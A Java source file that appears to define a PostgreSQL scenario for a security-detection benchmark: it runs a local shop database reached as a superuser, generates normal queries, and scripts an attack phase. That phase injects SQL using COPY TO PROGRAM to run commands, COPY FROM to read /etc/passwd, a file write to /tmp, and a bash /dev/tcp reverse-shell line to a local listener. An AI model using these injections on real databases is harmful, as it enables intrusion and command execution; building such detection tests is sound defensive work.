package dev.vigil.bench.scenario;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Random;
import java.util.concurrent.TimeUnit;

/**
 * Debian's PostgreSQL 15 (a cluster of the scenario's own, run as postgres), in a cgroup of
 * its own, serving a small shop database to an application that connects as a superuser
 * (the misconfiguration that turns SQL injection into the host's problem). Normal: psql
 * sessions over TCP with reads, inserts, updates, aggregates and joins of varying
 * parameters. Periodic job: VACUUM ANALYZE and a CHECKPOINT. Restart: a fast shutdown
 * (SIGINT) and start. Attack, as injected SQL: a program run with COPY TO PROGRAM, a file
 * read with COPY FROM, a file written with COPY TO, a reverse shell from COPY TO PROGRAM.
 */
final class PostgresScenario implements Scenario {
    static final int PORT = 5432, ATTACKER = 4444;
    static final Path BIN = Path.of("/usr/lib/postgresql/15/bin");
    private Process postgres, listener;
    private final String tag = "vigil-sc-" + ProcessHandle.current().pid();

    public String name() { return "postgres"; }

    public String description() {
        return "PostgreSQL 15 (Debian's) serving an application that connects as a superuser, attacked by SQL injection";
    }

    public String unavailable() {
        if (!Files.isExecutable(BIN.resolve("postgres"))) return "PostgreSQL 15 is not installed (apt-get install postgresql)";
        if (!Files.isExecutable(Path.of("/usr/bin/psql"))) return "psql is not installed (apt-get install postgresql-client)";
        return null;
    }

    private Path data(Env env) { return env.dir().resolve("pgdata"); }

    public void setUp(Env env) throws Exception {
        Path data = Files.createDirectories(data(env));
        Env.exec("chown", "postgres:postgres", data.toString());
        dev.vigil.testing.Command.Result init = env.client(120, "runuser", "-u", "postgres", "--", BIN.resolve("initdb").toString(), "-D", data.toString(), "-A", "trust",
                "-U", "postgres", "--no-sync");
        if (!init.ok()) throw new IllegalStateException("initdb failed: " + init.output());
        start(env);
        sql(env, "postgres", "CREATE DATABASE shop");
        sql(env, "shop", """
                CREATE TABLE items (id serial PRIMARY KEY, name text, price numeric, stock int);
                CREATE TABLE orders (id serial PRIMARY KEY, item int REFERENCES items, qty int, at timestamptz DEFAULT now());
                INSERT INTO items (name, price, stock) SELECT 'item ' || g, (g % 97) + 0.99, g % 50 FROM generate_series(1, 500) g;
                """);
        listener = env.listener(ATTACKER);
    }

    private void start(Env env) throws Exception {
        postgres = env.start(env.cgroup("postgres"), "postgres", env.dir().resolve("postgres.log"), BIN.resolve("postgres").toString(), "-D",
                data(env).toString(), "-c", "listen_addresses=127.0.0.1", "-p", Integer.toString(PORT), "-c", "unix_socket_directories=",
                "-c", "fsync=off");
        for (int i = 0; i < 200; i++) {
            if (env.client(10, "psql", "-h", "127.0.0.1", "-U", "postgres", "-d", "postgres", "-Atc", "SELECT 1").ok()) return;
            if (!postgres.isAlive()) break;
            Thread.sleep(100);
        }
        throw new IllegalStateException("postgres did not start: " + Files.readString(env.dir().resolve("postgres.log")));
    }

    private static void sql(Env env, String db, String sql) throws Exception {
        dev.vigil.testing.Command.Result r = env.client(60, "psql", "-v", "ON_ERROR_STOP=1", "-h", "127.0.0.1", "-U", "postgres", "-d", db, "-Atc", sql);
        if (!r.ok()) throw new IllegalStateException("psql: " + r.output().strip());
    }

    private static Request psql(String sql) {
        return new Request.Run(List.of("psql", "-h", "127.0.0.1", "-U", "postgres", "-d", "shop", "-Atqc", sql));
    }

    public Request normal(Random rnd) {
        int id = 1 + rnd.nextInt(500);
        return psql(switch (rnd.nextInt(7)) {
            case 0 -> "SELECT name, price, stock FROM items WHERE id = " + id;
            case 1 -> "SELECT id, name FROM items WHERE name LIKE 'item " + rnd.nextInt(50) + "%' ORDER BY price LIMIT " + (1 + rnd.nextInt(20));
            case 2 -> "INSERT INTO orders (item, qty) VALUES (" + id + ", " + (1 + rnd.nextInt(5)) + ")";
            case 3 -> "UPDATE items SET stock = stock + " + (rnd.nextInt(7) - 3) + " WHERE id = " + id;
            case 4 -> "SELECT i.name, sum(o.qty) FROM orders o JOIN items i ON i.id = o.item GROUP BY i.name ORDER BY 2 DESC LIMIT 5";
            case 5 -> "SELECT count(*), avg(price) FROM items WHERE stock > " + rnd.nextInt(50);
            default -> "BEGIN; UPDATE items SET price = price WHERE id = " + id + "; SELECT pg_sleep(0.0" + rnd.nextInt(5) + "); COMMIT";
        });
    }

    public void periodic(Env env, int n) throws Exception {
        sql(env, "shop", "VACUUM ANALYZE");
        sql(env, "shop", "CHECKPOINT");
    }

    public void restart(Env env) throws Exception {
        Env.exec("kill", "-INT", Long.toString(postgres.pid()));
        if (!postgres.waitFor(30, TimeUnit.SECONDS)) throw new IllegalStateException("postgres did not stop in 30 s");
        env.kill(env.cgroup("postgres"));
        start(env);
    }

    /** An injected statement: the application's query with the attacker's SQL appended. */
    private static Step inject(String name, String sql) {
        return new Step(name, env -> env.client(30, "psql", "-h", "127.0.0.1", "-U", "postgres", "-d", "shop", "-Atqc",
                "SELECT name FROM items WHERE id = 1; " + sql));
    }

    public List<Step> attack() {
        return List.of(
                inject("a program run by the database: COPY ... TO PROGRAM 'id'", "COPY (SELECT 1) TO PROGRAM 'id > /dev/null'"),
                inject("a file read by the database: COPY ... FROM '/etc/passwd'", "CREATE TEMP TABLE t (l text); COPY t FROM '/etc/passwd'"),
                inject("a file written by the database: COPY ... TO '/tmp/." + tag + "'", "COPY (SELECT 'payload') TO '/tmp/." + tag + "'"),
                inject("a reverse shell from the database: bash to the attacker", "COPY (SELECT 1) TO PROGRAM 'bash -c \"echo id > /dev/tcp/127.0.0.1/"
                        + ATTACKER + "\"'"));
    }

    public void tearDown(Env env) throws IOException, InterruptedException {
        if (postgres != null && postgres.isAlive()) {
            Env.exec("kill", "-INT", Long.toString(postgres.pid()));
            if (!postgres.waitFor(30, TimeUnit.SECONDS)) postgres.destroyForcibly();
        }
        if (listener != null) listener.destroyForcibly().waitFor(5, TimeUnit.SECONDS);
        Files.deleteIfExists(Path.of("/tmp/." + tag));
    }
}
